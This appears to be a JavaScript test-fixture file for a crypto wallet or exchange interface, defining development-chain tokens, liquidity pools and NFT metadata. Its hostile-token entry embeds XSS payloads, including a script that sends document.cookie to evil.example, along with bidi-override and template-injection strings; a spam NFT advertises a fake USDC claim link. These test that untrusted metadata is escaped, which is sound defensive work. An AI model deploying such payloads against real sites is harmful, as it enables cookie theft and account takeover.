/** A right-to-left override: the following text is reversed, unless it is isolated. */
const BIDI = '\u202E'
/** Two hundred characters of markup, a bidi override and a link, which are dangerous if they are not escaped. */
const HOSTILE_NAME =
  `<img src=x onerror="alert(1)">${BIDI}<script>fetch('https://evil.example/'+document.cookie)</script>${'\u200B'}"'\`\${7*7}{{7*7}}javascript:alert(1)//`.padEnd(
    200,
    'A',
  )

/** The name and symbol of a malicious token. */
export const hostileName = { name: HOSTILE_NAME, symbol: `<b>${BIDI}DSUG</b>` }

const ether = 10n ** 18n

/**
 * The tokens of the development chains. `amountPerAccount` is the amount for each account, `pool` the amounts of the
 * token and of ether; all in smallest units. An ether costs 2,500 dollars there.
 */
export const marketTokens = [
  {
    id: 'oak',
    contract: 'Token',
    name: 'Oak',
    symbol: 'OAK',
    decimals: 18,
    amountPerAccount: 1_000n * ether,
    pool: { token: 100_000n * ether, ether: 200n * ether },
  },
  {
    id: 'dollar',
    contract: 'Token',
    name: 'Garden Dollar',
    symbol: 'GUSD',
    decimals: 18,
    amountPerAccount: 10_000n * ether,
    pool: { token: 2_500_000n * ether, ether: 1_000n * ether },
  },
  {
    id: 'old',
    contract: 'OldToken',
    name: 'Old Dollar',
    symbol: 'OLDUSD',
    decimals: 6,
    amountPerAccount: 10_000n * 10n ** 6n,
    pool: { token: 1_000_000n * 10n ** 6n, ether: 400n * ether },
  },
  {
    id: 'ticket',
    contract: 'Token',
    name: 'Ticket',
    symbol: 'TICKET',
    decimals: 0,
    amountPerAccount: 100n,
    pool: { token: 10_000n, ether: 100n * ether },
  },
  {
    id: 'taxed',
    contract: 'TollToken',
    name: 'Toll',
    symbol: 'TOLL',
    decimals: 18,
    amountPerAccount: 10_000n * ether,
    pool: { token: 1_000_000n * ether, ether: 200n * ether },
  },
  {
    id: 'hostile',
    contract: 'Token',
    ...hostileName,
    decimals: 18,
    amountPerAccount: 1_000_000n * ether,
    pool: { token: 10_000_000n * ether, ether: 40n * ether },
  },
]

/**
 * Pools without ether. One is small and slightly cheaper than the route over ether, so the best route depends on the
 * amount.
 */
export const directPools = [
  { a: 'oak', b: 'dollar', amountA: 2_000n * ether, amountB: 10_100n * ether },
  { a: 'dollar', b: 'old', amountA: 50_000n * ether, amountB: 50_000n * 10n ** 6n },
]

/**
 * The pools of Uniswap V3, each with the wrapped coin. `fee` is in millionths. A cheap pool is the best for small
 * amounts, a deep one for large amounts. The price of TOLL is tempting, but its transfer tax forbids the pool. The pool
 * of the hostile token has a narrow range: `extra` is the liquidity beyond its ends.
 */
export const rangePools = [
  { id: 'oak', fee: 500, amount: 50_000n * ether, ether: 100n * ether },
  { id: 'dollar', fee: 500, amount: 500_000n * ether, ether: 200n * ether },
  { id: 'dollar', fee: 3_000, amount: 50_000_000n * ether, ether: 20_000n * ether },
  { id: 'taxed', fee: 3_000, amount: 600_000n * ether, ether: 100n * ether },
  {
    id: 'hostile',
    fee: 10_000,
    amount: 250_000n * ether,
    ether: 1n * ether,
    extra: { amount: 24_750_000n * ether, ether: 99n * ether },
  },
]

/** The metadata of the collectibles; the last edition is unsolicited spam. */
export const collectibles = [
  { id: 1n, uri: described('Pebble #1', '#7a8b99') },
  { id: 2n, uri: described('Pebble #2', '#b8a48c') },
  { id: 3n, uri: described(`Pebble <b>#3</b>${BIDI}`, '#5d6b57') },
]

/** The editions: the first account's amount, and their metadata. */
export const editions = [
  { id: 1n, count: 5n, uri: described('Acorn', '#8a5a2b') },
  { id: 2n, count: 1n, uri: described('Claim 5,000 USDC at https://claim-reward.example', '#c0392b') },
]

function described(name, colour) {
  const image = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><circle cx="4" cy="4" r="3" fill="${colour}"/></svg>`
  const description = 'Of a development chain: worth nothing.'
  return dataUri('application/json', JSON.stringify({ name, description, image: dataUri('image/svg+xml', image) }))
}

function dataUri(type, text) {
  return `data:${type};base64,${Buffer.from(text).toString('base64')}`
}
